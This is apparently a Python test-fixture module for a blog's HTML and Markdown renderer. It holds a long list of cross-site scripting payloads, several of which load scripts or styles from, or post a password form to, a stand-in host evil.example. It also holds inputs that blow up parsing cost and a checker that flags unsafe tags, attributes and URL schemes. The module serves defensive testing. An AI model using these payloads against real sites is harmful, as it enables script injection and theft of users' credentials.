"""What hostile people write, as data: every renderer, page and feed is tried with all of it.

Everything here is our own writing. `dangers` tells what is wrong with HTML that came out.
"""

from html.parser import HTMLParser

# Texts that try to run a script, to reach out of their place, or to pass for a part of the page.
SCRIPTS: tuple[str, ...] = (
    # Elements that run or load something.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>click</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=password><button formaction=javascript:alert(1)>go",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<picture><source srcset='javascript:alert(1) 1w'><img src=x onerror=alert(1)></picture>",
    "<picture><source srcset='https://a.example/b.webp 1w, data:text/html,a 2w'></picture>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<marquee onstart=alert(1)>",
    "<portal src=//evil.example>",
    "<x onclick=alert(1)>unknown</x>",
    # Attributes.
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x' title='\"><script>alert(1)</script>'>",
    "<p onmouseover=alert(1)>over</p>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>cover</p>",
    "<details open ontoggle=alert(1)>",
    "<a href=# onfocus=alert(1) autofocus tabindex=1>focus</a>",
    "<a href=# accesskey=x onclick=alert(1)>key</a>",
    "<div contenteditable onblur=alert(1)>edit</div>",
    "<p xml:lang=fr xmlns:xlink=x xlink:href=javascript:alert(1)>names</p>",
    "<time datetime='\" onclick=\"alert(1)'>now</time>",
    "<td background=javascript:alert(1)>cell</td>",
    # Addresses.
    "<a href=javascript:alert(1)>link</a>",
    "<a href='javascript:123'>host and port</a>",
    "<a href=' &#14; javascript:alert(1)'>control</a>",
    "<a href='java&#10;script:alert(1)'>line</a>",
    "<a href='java&Tab;script:alert(1)'>tab</a>",
    "<a href='&#106;avascript&colon;alert(1)'>reference</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>no semicolon</a>",
    "<a href='JaVaScRiPt:alert(1)'>case</a>",
    "<a href='javascript\u200b:alert(1)'>zero width</a>",
    "<a href='\u202ejavascript:alert(1)'>direction</a>",
    "<a href='\x01javascript:alert(1)'>control</a>",
    "<a href='vbscript:msgbox(1)'>basic</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=javascript:alert(1)>",
    "<img src=mailto:a@b.example>",
    "<a href='file:///etc/passwd'>file</a>",
    "<a href='blob:https://evil.example/1'>blob</a>",
    "<a href='view-source:javascript:alert(1)'>source</a>",
    "<a href='feed:javascript:alert(1)'>feed</a>",
    "<a href='https://good.example\\@evil.example/'>backslash</a>",
    "<a href='https://good.example@evil.example/'>user</a>",
    "<a href='https://user:secret@evil.example/'>password</a>",
    "<a href='//[::bad'>broken host</a>",
    "<blockquote cite=javascript:alert(1)>quote</blockquote>",
    "<del cite=javascript:alert(1)>gone</del>",
    # The same in Markdown.
    "[link](javascript:alert(1))",
    "[link](javascript:123)",
    "[link](<javascript:alert(1)>)",
    "[link](java\tscript:alert(1))",
    "[link](&#106;avascript:alert(1))",
    "[link](javascript&colon;alert(1))",
    "[link](\\javascript:alert(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    '[link](https://a.example "t\\" onclick=\\"alert(1)")',
    '[link](https://a.example\'onclick=alert(1) "t")',
    "![picture](javascript:alert(1))",
    '![" onerror="alert(1)](x.png)',
    "![a](x.png 'b\" onerror=\"alert(1)')",
    "[link][x]\n\n[x]: javascript:alert(1)",
    '[link][x]\n\n[x]: https://a.example "t\\" onclick=\\"alert(1)"',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick="alert(1)>',
    '<a@b.example"onclick=alert(1)>',
    "# title {onclick=alert(1)}",
    "*word*{onclick=alert(1) style=color:red lang='\" onclick=\"alert(1)'}",
    "[word]{lang=en onclick=alert(1)}",
    "word {: onmouseover=alert(1) }",
    "``` <script>alert(1)</script>\ncode\n```",
    '```"onclick="alert(1)\ncode\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "Text[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: note',
    '*[AB]: "><script>alert(1)</script>\n\nAB',
    "term\n: <img src=x onerror=alert(1)>",
    "<div>\n\n*<script>alert(1)</script>*\n\n</div>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    # Mutations: harmless to one parser, harmful once written and read again.
    "<p id='</p><img src=x onerror=alert(1)>'>",
    "<table><td><a title='</td></table><img src=x onerror=alert(1)>'>",
    "<b><p><a href=x></b><img src=x onerror=alert(1)></a>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<pre>\n<img src=x onerror=alert(1)></pre>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<p title='&lt;script&gt;alert(1)&lt;/script&gt;'>title</p>",
    "\U0010fff1script\U0010fff2alert(1)\U0010fff1/script\U0010fff2",
    "\x020\x03 \x02999999\x03 \x02\x03",
    "\ud800<script>alert(1)</script>\udfff",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    # What would pass for the page's own parts.
    "<p id=comments class=blogposts-comment-form role=navigation aria-label=Site>mine</p>",
    "<div class='blogposts-scroll' tabindex=5 role=dialog aria-modal=true>mine</div>",
    "<h1 id=source-key>mine</h1>",
    "<img name=body src=x><img id=cookie src=x><a id=location name=location>mine</a>",
    "<sup class=blogposts-cite id=text--cite-1><a href=#source-key>1</a></sup>",
)

# Pieces that are cheap once and dear when they are repeated to a body of any length.
REPEATED: tuple[str, ...] = (
    *("[", "![", "]", "](", "[](", "[a](", "[a](b ", '[a](b "', "[a](<b", "[a](\\(", "[[a](b)](c)"),
    *("![[]()", "![](", "![![a](b)](c)", "[a][b]", "[a]: b\n", '[a]: <b> "c"\n', "[a]{lang=en}"),
    *(
        "[^1]",
        "[^1]: a\n",
        "[^1]: a\n\n",
        "*[a]: b\n",
        "*[a]: b\n\na\n",
        "[@a]",
        "[@a",
        "{lang=en}",
    ),
    *(
        "* ",
        "- ",
        "+ ",
        "1. ",
        "- a\n",
        "- a\n\n",
        "1. a\n\n",
        "- a\n    - b\n",
        "    - a\n",
        "- - a\n",
    ),
    *("> ", ">", "> a\n\n", "> - a\n", "- > a\n", ">>>> a\n", "a\n> b\n", "> ```\n", "- ```\n"),
    *("*", "_", "**a", "*a **b ", "a*", "a**b", "*_", "_a__b_", "***a", "a_b", "*a*{lang=en}"),
    *("`", "` ", "`` ` ", "`a`|", "```\n", "~~~\n", "```a\n```\n", "    a\n", "    a\n\n"),
    *("#", "# ", "# a\n", "#\n", "###### a\n\n", "a\n===\n", "---\n", "- - -\n", "***\n", "===\n"),
    *(
        ": a\n",
        "a\n: b\n",
        "a\n\n: b\n\n",
        ":   ",
        "|",
        "|\n",
        "a|b\n-|-\n",
        "||\n|-|-|\n",
        "|a|b|\n",
    ),
    *(
        "<",
        "<!",
        "<!--",
        "<!-- a -->",
        "<![CDATA[ ",
        "<![a ",
        "<?",
        "<?php ",
        "</",
        "<a ",
        "<a <a <a",
    ),
    *('<a href="', "<a b=c ", "<a b='\"<", '<a x="<a" ', "</p>", "</b></i>", "<>", "a<b ", "<3 "),
    *("<b>", "<b></b>", "<b><p>", "<p><b>", "<b><p></b>", "<i a=1><b>", "<a><b><a>", "<a><a>"),
    *("<p>", "<div>", "<div>\n\n", "<li>", "<ul><li>", "<dl><dt>", "<dd>", "<h1>", "<pre>", "<br>"),
    *("<table>", "<td>", "<table><tr><td>", "<table>a", "<table><b>", "<caption>", "<col>"),
    *("<ruby><rt>", "<select>", "<form>", "<math><mi>", "<svg>", "<svg><p>", "<script>", "<style>"),
    *("<textarea>", "<title>", "<x>", "<details>\n\n", "<section>", "<img>", "<b title='&lt;'>"),
    *("&", "&&", "&a", "&amp;", "&lt;", "&#9", "&#9;", "&#x110000;", "&#99999999999;", "&nbsp;"),
    *(
        "a\n\n",
        "a ",
        "\n",
        "\n\n",
        " \n",
        "\t\n",
        "  \n",
        "a  \n",
        "\\",
        "\\*",
        "\\\n",
        "\r",
        "\r\n",
    ),
    *(
        "« a » ",
        "«",
        "»",
        "a ! ",
        "a : b ",
        "? ! ",
        "é",
        "中",
        "\U0001f600",
        "\u202e",
        "\x00",
        "\x02",
    ),
    *("http://a.b ", "<http://a.b>", "<a@b.c>", "http://a.b/?c=d&e ", "a.b@", "\ud800", "\u0301"),
    *("\x020\x03", '"', "'", "-->", "{", "}", "{{{", "(", ")", "$", "~", "^", "=", "@"),
)


def repeated(piece: str, length: int) -> str:
    """`piece` again and again, to exactly `length` characters."""
    return (piece * (length // len(piece) + 1))[:length]


_ELEMENTS = frozenset(
    "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em"
    " figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p picture pre q rp rt ruby"
    " s samp small source span strong sub summary sup table tbody td tfoot th thead time tr u ul"
    " var wbr".split()
)
_ATTRIBUTES = frozenset(
    "alt aria-label aria-labelledby cite class colspan data-blogposts-frame datetime decoding dir"
    " height href hreflang id lang loading open rel reversed role rowspan scope sizes span src"
    " srcset start tabindex title type value width".split()
)
_VOID = frozenset({"br", "col", "hr", "img", "source", "wbr"})


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.found.append(f"element {tag}")
        if tag not in _VOID:
            self.open.append(tag)
        for name, value in attrs:
            self.inspect(name, value or "")

    def inspect(self, name: str, value: str) -> None:
        if name not in _ATTRIBUTES:
            self.found.append(f"attribute {name}")
        if name == "id":
            self.ids.append(value)
        if name in {"href", "src", "srcset", "cite"}:
            address = "".join(c for c in value if c.isprintable() and not c.isspace()).lower()
            scheme, colon, _rest = address.partition(":")
            if colon and scheme not in {"http", "https", "mailto"} and scheme.isalnum():
                self.found.append(f"address {value}")
        if name == "tabindex" and value != "0":
            self.found.append(f"tabindex {value}")
        if name == "role" and value != "group":
            self.found.append(f"role {value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"unbalanced {tag}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


def dangers(html: str) -> list[str]:
    """Whatever in the HTML of a body must not be there, and elements that do not balance."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    if inspector.open:
        inspector.found.append(f"never closed {inspector.open}")
    twice = {name for name in inspector.ids if inspector.ids.count(name) > 1}
    return inspector.found + [f"id twice {name}" for name in sorted(twice)]
